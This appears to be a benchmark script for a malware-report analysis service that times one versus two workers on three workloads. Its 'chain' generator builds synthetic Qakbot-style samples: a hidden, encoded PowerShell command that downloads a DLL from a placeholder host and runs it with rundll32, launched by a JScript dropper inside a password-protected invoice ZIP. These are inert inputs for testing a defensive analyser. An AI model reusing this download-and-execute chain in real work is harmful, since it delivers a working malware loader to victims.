// Scale-out throughput on this machine: reports analysed per second by 1 and by 2 `tacklebox worker`
// processes (one analysis process each) sharing a throwaway PostgreSQL store and Redis queue, and the ratio.
// Baseline: the 1-worker run, measured in the same run. Each run gets a fresh database and queue; the same
// workers start and analyse a few warm-up reports each; then N small unique reports are queued with the queue
// paused, the queue is resumed and the clock runs until the store says every report is done (steady state:
// worker start-up is not counted). The machine is shared: run it twice before believing a ratio.
// Three workloads: small plain-text reports (N, default 300: the queue, store and process overhead dominate),
// whole chains (N/5: email → password ZIP → JScript → PowerShell, the analysis dominates), and small reports
// whose analysis also waits 200 ms (N/5, as a slow link fetch would: shows how the queue and leases scale
// when the CPU is not what limits). On 2 cores one worker (its process, its analysis process and the
// sandboxes) already keeps both cores busy, so CPU-bound ratios near 1 are what this machine can give.
// Run: npx tsx bench/scale.ts [N]

import { availableParallelism } from 'node:os';
import { Queue } from 'bullmq';
import pg from 'pg';
import { redisConnection } from '../src/service/queue/bullmq-connection.ts';
import { REPORT_QUEUE } from '../src/service/queue/bullmq.ts';
import { startPostgres } from '../test/helpers/postgres.ts';
import { startRedis } from '../test/helpers/redis.ts';
import { spawnWorker, type WorkerProcess } from '../test/helpers/redis-workers.ts';
import { rfc822, startTestService, submitEmail } from '../test/helpers/service.ts';
import { makeZip } from '../test/generators/zip.ts';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';

const N = Number(process.argv[2] ?? 300);

interface Run {
  workers: number;
  seconds: number;
  perSecond: number;
}

type Workload = (i: number) => Promise<string>;

const small: Workload = async (i) => rfc822({ subject: `Bench ${i}`, messageId: `<bench-${i}@x.example>`, text: `Your parcel ${i}: https://parcel-track.example/p/${i}` });

/** A whole Qakbot-style chain per report, each with its own bytes: email → ZIP (password in the body) → JScript → PowerShell. */
const chain: Workload = async (i) => {
  const ps = Buffer.from(`$c=New-Object Net.WebClient;$c.DownloadFile('http://cdn-${i}.example/p.dll','C:\\ProgramData\\p${i}.dll');rundll32 C:\\ProgramData\\p${i}.dll,Run`, 'utf16le').toString('base64');
  const js = `var s = new ActiveXObject("WScript.Shell");\nvar c = "powershell -nop -w hidden -enc ${ps}";\ns.Run(c, 0);\n`;
  const zip = await makeZip([{ name: `Invoice_${i}.js`, data: js }], { password: `${4000 + i}` });
  return rfc822({ subject: `Invoice ${i}`, messageId: `<chain-${i}@x.example>`, text: `Your invoice ${i}. Password: ${4000 + i}`, attachments: [{ filename: `Invoice_${i}.zip`, contentType: 'application/zip', data: zip }] });
};

async function run(workerCount: number, workload: Workload, count: number, env: Record<string, string>): Promise<Run> {
  const postgres = await startPostgres();
  const redis = await startRedis();
  const dataDir = await mkdtemp(join(tmpdir(), 'tacklebox-bench-scale-'));
  const workers: WorkerProcess[] = [];
  const storeUrl = await postgres.createDatabase();
  const svc = await startTestService({ store: storeUrl, queue: redis.url, samplesDir: join(dataDir, 'samples'), sweepMs: 5000 });
  const db = new pg.Client({ connectionString: storeUrl });
  await db.connect();
  const connection = redisConnection(redis.url, 'worker');
  const queue = new Queue(REPORT_QUEUE, { connection });
  const doneCount = async () => (await db.query("SELECT count(*)::int AS n FROM reports WHERE status IN ('done', 'failed')")).rows[0].n as number;
  const submitBatch = async (token: string, from: number, n: number) => {
    for (let i = from; i < from + n; i += 50) {
      await Promise.all(Array.from({ length: Math.min(50, from + n - i) }, async (_, j) => submitEmail(svc.url, token, await workload(i + j))));
    }
  };
  try {
    const token = await svc.addUser('bench', 'analyst');
    workers.push(
      ...(await Promise.all(
        Array.from({ length: workerCount }, () => spawnWorker(['worker', '--queue', redis.url, '--store', storeUrl, '--data', dataDir, '--workers', '1', '--hunt-shards', '0'], env)),
      )),
    );
    // Warm-up: a few reports per worker, so that every analysis process has loaded its analyzers.
    const warm = 4 * workerCount;
    await submitBatch(token, 0, warm);
    while ((await doneCount()) < warm) await new Promise((r) => setTimeout(r, 100));
    // The measured reports wait in the paused queue, then all are released at once.
    await queue.pause();
    await submitBatch(token, warm, count);
    const started = performance.now();
    await queue.resume();
    while ((await doneCount()) < warm + count) await new Promise((r) => setTimeout(r, 50));
    const seconds = (performance.now() - started) / 1000;
    const { rows } = await db.query("SELECT count(*)::int AS n FROM reports WHERE status = 'done'");
    if (rows[0].n !== warm + count) throw new Error(`${warm + count - rows[0].n} reports failed`);
    return { workers: workerCount, seconds, perSecond: count / seconds };
  } finally {
    await Promise.all(workers.map((w) => w.kill('SIGTERM')));
    await queue.close();
    connection.disconnect();
    await db.end();
    await svc.stop();
    await redis.stop();
    await postgres.stop();
    await rm(dataDir, { recursive: true, force: true });
  }
}

for (const [name, workload, count, env] of [
  ['small reports', small, N, {}],
  ['whole chains', chain, Math.max(10, Math.round(N / 5)), {}],
  ['waiting analyses', small, Math.max(10, Math.round(N / 5)), { TACKLEBOX_WORKER_DELAY_MS: '200' }],
] as const) {
  const results: Run[] = [];
  for (const w of [1, 2]) {
    const r = await run(w, workload, count, env);
    results.push(r);
    process.stdout.write(`${name}, ${w} worker${w > 1 ? 's' : ' '}: ${count} in ${r.seconds.toFixed(1)} s = ${r.perSecond.toFixed(1)} reports/s\n`);
  }
  const [one, two] = results as [Run, Run];
  process.stdout.write(`${name}: 2 workers / 1 worker = ${(two.perSecond / one.perSecond).toFixed(2)}x on ${availableParallelism()} cores (the service, PostgreSQL and Redis share them)\n`);
}
